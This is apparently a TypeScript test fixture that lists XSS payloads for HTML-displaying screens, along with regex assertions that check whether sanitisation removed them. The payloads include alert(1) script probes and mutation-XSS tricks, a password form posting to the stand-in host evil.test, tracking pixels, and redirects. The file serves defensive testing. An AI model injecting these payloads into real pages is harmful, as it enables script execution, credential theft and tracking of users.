/** XSS test cases for every screen that shows HTML, and the check that none of them has an effect (MSG-09). */

/** HTML that runs script, breaks out of its container or imitates the page. */
export const HTML_ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.test"></object><embed src="https://evil.test">',
  '<form action="https://evil.test"><input name="password"><button>log in</button></form>',
  '<style>body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<div id="main" name="body" class="button">x</div>',
  '<p style="background:url(https://evil.test/pixel)">x</p>',
  '<p style="position:fixed;inset:0;z-index:99">x</p>',
  '<p data-style="position:fixed">x</p>',
  '<img src="//evil.test/pixel.png">',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
];

/** Asserts that no attack remains: no active tag, attribute, URL or style. */
export function expectHarmless(html: string): void {
  expect(html).not.toMatch(/<(script|iframe|object|embed|form|input|button|style|link|base|meta|svg|math|template)/i);
  expect(html).not.toMatch(/\son\w+=|javascript:|data:text|evil\.test|position|\s(id|name|class)=/i);
}
